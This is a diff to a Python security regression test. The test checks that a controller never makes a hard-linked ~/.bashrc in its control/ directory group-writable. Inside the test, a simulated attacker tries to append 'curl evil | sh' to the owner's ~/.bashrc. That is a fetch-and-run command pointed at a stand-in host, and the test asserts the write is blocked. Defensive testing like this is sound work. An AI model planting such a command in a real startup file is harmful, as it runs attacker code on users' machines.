@@ -19,7 +19,7 @@ from attack_env import as_user, runctl_as, start_as, uid
 from fakes import make_config
 
 import orchestrator.views.prom  # noqa: F401
-from orchestrator.contract import RunPaths, read_jsonl
+from orchestrator.contract import RunPaths
 from orchestrator.plan.config import dump_config
 
 
@@ -77,17 +77,15 @@ def runctl_as_self(argv: list[str]) -> tuple[int, str]:
 
 
 def test_hard_link_in_control_is_never_chmodded(team, shared_run):
-    """Hole 2: a hard link in control/ to the owner's ~/.bashrc made it group-writable when the
-    controller started (prepare_permissions). Since the exclude list left control/ (issue 22,
-    holes 5 and 6) nothing in control/ is chmodded at all; a link under the old exclude list's
-    name is quarantined, not trusted. The links are made as root here: this host has
-    fs.protected_hardlinks=1, which docs/security.md says the toolkit does not rely on."""
+    """A hard link in control/ to the owner's ~/.bashrc must never make it group-writable when the
+    controller starts (prepare_permissions): nothing in control/ is chmodded at all. The link is
+    made as root here: this host has fs.protected_hardlinks=1, which docs/security.md says the
+    toolkit does not rely on."""
     paths = shared_run(team_dir=True)
     bashrc = paths.root.parent / "bashrc"
     as_user(team.owner, lambda: (bashrc.write_text("alias ls='ls -F'\n"), os.chmod(bashrc, 0o644)))
     before = os.stat(bashrc)
     os.link(bashrc, paths.control / "x")
-    os.link(bashrc, paths.legacy_exclude_list)
 
     rc, out = as_user(team.owner, lambda: runctl_as_self(["watch", str(paths.root), "--once", "--json"]),
                       umask=0o002, env=mock_slurm(paths.root.parent))[0]  # fmt: skip
@@ -98,9 +96,7 @@ def test_hard_link_in_control_is_never_chmodded(team, shared_run):
     result, _ = as_user(team.oncall, lambda: bashrc.open("a").write("curl evil | sh\n"))
     assert isinstance(result, PermissionError), f"{team.oncall} could write the owner's ~/.bashrc"
     assert rc == 0, out
-    moved = [e for e in read_jsonl(paths.events) if e.get("event") == "quarantined"]
-    assert [e["file"] for e in moved] == [str(paths.legacy_exclude_list)], moved
-    assert bashrc.read_text() == "alias ls='ls -F'\n" and not paths.legacy_exclude_list.exists()
+    assert bashrc.read_text() == "alias ls='ls -F'\n"
 
 
 def listening_addresses(port: int) -> list[str]:
